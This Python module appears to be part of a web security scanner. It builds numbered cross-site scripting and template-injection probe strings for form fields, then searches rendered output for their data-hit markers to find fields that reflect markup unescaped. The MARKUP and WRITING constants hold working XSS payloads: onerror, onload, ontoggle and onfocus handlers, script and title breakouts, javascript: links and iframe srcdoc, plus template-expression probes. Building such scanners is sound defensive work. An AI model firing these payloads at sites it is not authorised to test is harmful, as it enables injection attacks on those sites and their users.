"""Markup that would run if a page took it for its own, each piece with the number of the field it was typed into."""

import re
from collections.abc import Iterable

MARKUP = (
    '"><b data-hit={n} onfocus=hit() autofocus>',
    "'><img data-hit={n} src=x onerror=hit()>",
    "</script><script data-hit={n}>hit()</script>",
    "</title></textarea><svg data-hit={n} onload=hit()>",
    "<a data-hit={n} href=javascript:hit()>x</a>",
    "{{{{ 41*271 }}}}${{41*271}}{{% set a=41*271 %}}<i data-hit={n}>",
    "</template><style data-hit={n}>*{{color:red}}</style>",
    "javascript:hit()//\u2028<b data-hit={n}>",
    "<iframe data-hit={n} srcdoc='<script>parent.hit()</script>'>",
    "<details data-hit={n} open ontoggle=hit()>",
)
"""Each breaks out of another place: an attribute in double or single quotes, a script, a title, a link, a template."""
WRITING = '[x](javascript:hit()) ![x](x" onerror="hit()) <{n}@x.y> <img data-hit={n} src=x onerror=hit()>'
"""Where Markdown is understood."""
SHORT = "<b data-hit={n}>"
COMPUTED = "11111"
"""What the template code among it makes when it is computed."""
HIT = re.compile(r"data-hit=(\d+)")


def for_field(number: int, *, longest: int | None, is_long: bool) -> str:
    """A piece for the field with this number, none when nothing fits."""
    if is_long:
        return WRITING.format(n=number)
    for place in range(len(MARKUP)):
        text = MARKUP[(number + place) % len(MARKUP)].format(n=number)
        if longest is None or len(text) <= longest:
            return text
    short = SHORT.format(n=number)
    return short if longest is None or len(short) <= longest else ""


def numbers_in(texts: Iterable[object]) -> set[int]:
    """The fields whose markup is in these texts."""
    return {int(number) for text in texts for number in HIT.findall(str(text))}
